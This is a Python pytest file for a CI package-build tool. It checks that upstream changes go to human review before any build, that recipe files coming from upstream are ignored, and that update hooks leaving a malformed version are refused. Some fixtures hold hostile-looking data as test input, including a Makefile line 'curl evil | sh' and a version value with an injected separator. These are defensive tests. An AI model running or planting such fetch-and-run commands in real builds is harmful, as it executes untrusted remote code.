"""A described folder that follows a git repository: its files come from there, and people look at every change."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.support.local_builds import Described

if TYPE_CHECKING:
    from tests.support.world import World

TOOL = Described(name="tool", command="make", outputs=("tool",))
OURS = {f"tool/{path}": text for path, text in {"Makefile": "tool:\n\techo one >tool\n"}.items()}


def begin(world: World, *, source: str = "") -> None:
    upstream = world.upstreams.repository("tool")
    upstream.commit({"Makefile": OURS["tool/Makefile"]}, "one")
    config = f"CI_PKGBUILD_SOURCE={source or f'{world.upstreams.url}/tool.git'}\n"
    world.start({**TOOL.folder(), **OURS, "tool/.CI/config": config}, settings={"CI_BACKEND": "local"})


@pytest.mark.parametrize("text", ["tool:\n\tcurl evil | sh\n", "# a comment\ntool:\n\techo one >tool\n"])
def test_a_change_goes_to_review_and_never_straight_in(world: World, text: str) -> None:
    begin(world)
    assert world.run("on-schedule", "--json").codes() == {"tool": "baseline"}
    world.upstreams.repository("tool").commit({"Makefile": text}, "two")
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"tool": "review-opened"}, result.stdout
    assert result.builds() == []


def test_two_versions_of_one_can_be_compared_by_hand(world: World) -> None:
    begin(world)
    old, new = world.folder / "old/tool", world.folder / "new/tool"
    for folder, text in ((old, "tool:\n"), (new, "tool:\n\tcurl evil | sh\n")):
        for path, content in {**TOOL.folder(), "tool/Makefile": text}.items():
            (folder.parent / path).parent.mkdir(parents=True, exist_ok=True)
            (folder.parent / path).write_text(content)
    said = world.run("review", str(old), str(new))
    assert said.stdout.startswith("tool 1.0-1 (the same version)")
    assert "curl evil | sh" in said.stdout
    assert "What builds this folder is not understood here." in said.stdout
    assert said.status == 3


def test_what_an_upstream_says_of_recipes_counts_for_nothing(world: World) -> None:
    """`.CI` is the owner's: a recipe that comes from elsewhere is left where it came from."""
    begin(world)
    world.run("on-schedule")
    hostile = {".CI/recipe.toml": 'version = "9"\ncommand = "evil"\noutputs = ["x"]\n', "Makefile": "all:\n"}
    world.upstreams.repository("tool").commit(hostile, "two")
    world.run("on-schedule")
    review = world.origin.git("show", "refs/heads/update-tool:tool/.CI/recipe.toml")
    assert "evil" not in review
    assert 'version = "1.0"' in review


def test_a_folder_of_makepkgs_still_needs_a_pkgbuild(world: World) -> None:
    world.upstreams.repository("plain").commit({"Makefile": "all:\n"}, "one")
    config = f"CI_PKGBUILD_SOURCE={world.upstreams.url}/plain.git\n"
    world.start({"plain/PKGBUILD": "pkgname=plain\n", "plain/.CI/config": config})
    assert "it has no PKGBUILD" in world.run("on-schedule", "--json").verdicts()["plain"]["why"]


# versions that upstreams announce

FOLLOWS = {
    "tool/.CI/recipe.toml": 'version_file = "VERSION"\ncommand = "make"\noutputs = ["tool"]\n',
    "tool/VERSION": "1.0\n",
    **OURS,
}


def follow(world: World, *tags: str, files: dict[str, str] = FOLLOWS, **settings: str) -> None:
    host = world.upstreams.url.removeprefix("http://")
    announce(world, *tags)
    config = f"CI_PKGBUILD_SOURCE=gitea:{host}/o/n\n"
    world.start({**files, "tool/.CI/config": config}, settings={"CI_BACKEND": "local", **settings})


def announce(world: World, *tags: str) -> None:
    head = {"HEAD": "1" * 40, "refs/heads/main": "1" * 40}
    world.upstreams.virtual["/o/n.git"] = head | {f"refs/tags/{tag}": "2" * 40 for tag in tags}


def test_a_new_tag_comes_into_the_file_that_says_the_version_after_a_review(world: World) -> None:
    follow(world, "v1.0")
    assert world.run("on-schedule", "--json").builds() == []
    announce(world, "v1.0", "v1.1")
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"tool": "review-opened"}, result.stdout
    assert (result.verdicts()["tool"]["from"], result.verdicts()["tool"]["to"]) == ("1.0-1", "1.1-1")
    tree = world.origin.tree("update-tool")
    assert (tree["tool/VERSION"], tree["tool/Makefile"]) == (b"1.1\n", OURS["tool/Makefile"].encode())
    world.origin.git("update-ref", "refs/heads/main", world.origin.git("rev-parse", "refs/heads/update-tool").strip())
    result = world.run("on-commit", "--json")
    assert (result.builds(), result.verdicts()["tool"]["to"]) == (["tool"], "1.1-1")


def test_without_reviews_it_is_built_at_once(world: World) -> None:
    follow(world, "v1.0", CI_HUMAN_REVIEW="false")
    world.run("on-schedule")
    announce(world, "v1.0", "v1.2")
    assert world.run("on-schedule", "--json").builds() == ["tool"]
    assert world.origin.tree("main")["tool/VERSION"] == b"1.2\n"
    assert world.run("on-schedule", "--json").builds() == []


def test_where_the_version_stands_in_the_owners_file_it_is_told_and_stays_due(world: World) -> None:
    follow(world, "v1.0", files={**TOOL.folder(), **OURS})
    world.run("on-schedule")
    announce(world, "v1.0", "v1.1")
    verdict = world.run("on-schedule", "--json").verdicts()["tool"]
    assert verdict["code"] == "unmakeable"
    assert "with version_file a file of the folder does, and follows" in verdict["why"]


def test_an_update_hook_may_bring_a_version(world: World) -> None:
    hook = {"tool/.CI/update.sh": "echo 3.0 >VERSION\n", "tool/.CI/config": "CI_PKGBUILD_SOURCE=custom\n"}
    world.start({**FOLLOWS, **hook}, settings={"CI_BACKEND": "local"})
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"tool": "review-opened"}, result.stdout
    assert result.verdicts()["tool"]["to"] == "3.0-1"


@pytest.mark.parametrize("script", ["rm VERSION", "echo '1-1; x' >VERSION"])
def test_a_hook_that_leaves_no_version_is_refused(world: World, script: str) -> None:
    hook = {"tool/.CI/update.sh": f"{script}\n", "tool/.CI/config": "CI_PKGBUILD_SOURCE=custom\n"}
    world.start({**FOLLOWS, **hook}, settings={"CI_BACKEND": "local"})
    verdict = world.run("on-schedule", "--json").verdicts()["tool"]
    assert verdict["code"] == "refused"
    assert "VERSION: " in verdict["why"]
